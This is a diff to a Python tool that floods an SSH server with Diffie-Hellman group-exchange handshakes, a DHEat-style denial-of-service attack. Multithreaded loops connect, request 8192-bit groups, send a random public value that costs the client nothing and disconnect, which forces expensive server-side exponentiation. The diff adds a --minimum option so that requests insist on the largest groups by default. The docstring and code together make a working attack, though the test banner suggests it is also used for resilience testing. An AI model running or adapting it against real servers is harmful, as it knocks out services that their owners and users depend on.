@@ -4,7 +4,8 @@
 
 Each of ``connections`` threads, from the ``source`` address, in a loop as
 fast as it can: connect, exchange banners and KEXINIT offering only
-Diffie-Hellman group exchange, ask for an 8192-bit group (minimum 2048),
+Diffie-Hellman group exchange, ask for an 8192-bit group (by default
+insisting: minimum 8192; ``--minimum`` for less),
 answer the group with a random public value (which costs the attacker
 nothing: it never computes its own exponentiation) and hang up without
 waiting for the server's reply.  The server, however, must exponentiate.
@@ -107,7 +108,7 @@ class Totals:
             return json.dumps(self.counts)
 
 
-def attack_once(host: str, port: int, source: str, bits: int, totals: Totals) -> None:
+def attack_once(host: str, port: int, source: str, minimum: int, bits: int, totals: Totals) -> None:
     with socket.create_connection((host, port), timeout=60, source_address=(source, 0)) as sock:
         totals.add("connections")
         sock.sendall(b"SSH-2.0-dheat_test\r\n" + packet(KEXINIT))
@@ -117,7 +118,7 @@ def attack_once(host: str, port: int, source: str, bits: int, totals: Totals) ->
                 pass
             while reader.message()[:1] != bytes((MSG_KEXINIT,)):
                 pass
-            sock.sendall(packet(bytes((MSG_GEX_REQUEST,)) + struct.pack(">3L", 2048, bits, bits)))
+            sock.sendall(packet(bytes((MSG_GEX_REQUEST,)) + struct.pack(">3L", minimum, bits, bits)))
             message = reader.message()
             while message[:1] != bytes((MSG_GEX_GROUP,)):
                 message = reader.message()
@@ -133,10 +134,10 @@ def attack_once(host: str, port: int, source: str, bits: int, totals: Totals) ->
         totals.add("inits")
 
 
-def attacker(host: str, port: int, source: str, bits: int, totals: Totals) -> None:
+def attacker(host: str, port: int, source: str, minimum: int, bits: int, totals: Totals) -> None:
     while True:
         try:
-            attack_once(host, port, source, bits, totals)
+            attack_once(host, port, source, minimum, bits, totals)
         except OSError:
             totals.add("refused")
             time.sleep(0.01)
@@ -149,10 +150,12 @@ def main(argv: list[str] | None = None) -> None:
     parser.add_argument("--source", default="127.0.0.2")
     parser.add_argument("--connections", type=int, default=12)
     parser.add_argument("--bits", type=int, default=8192)
+    parser.add_argument("--minimum", type=int, default=0, help="smallest group accepted (default: --bits)")
     args = parser.parse_args(argv)
     totals = Totals()
     for _ in range(args.connections):
-        threading.Thread(target=attacker, args=(args.host, args.port, args.source, args.bits, totals),
+        threading.Thread(target=attacker, args=(args.host, args.port, args.source, args.minimum or args.bits,
+                                                args.bits, totals),
                          daemon=True).start()
     while True:
         print(totals.line(), flush=True)
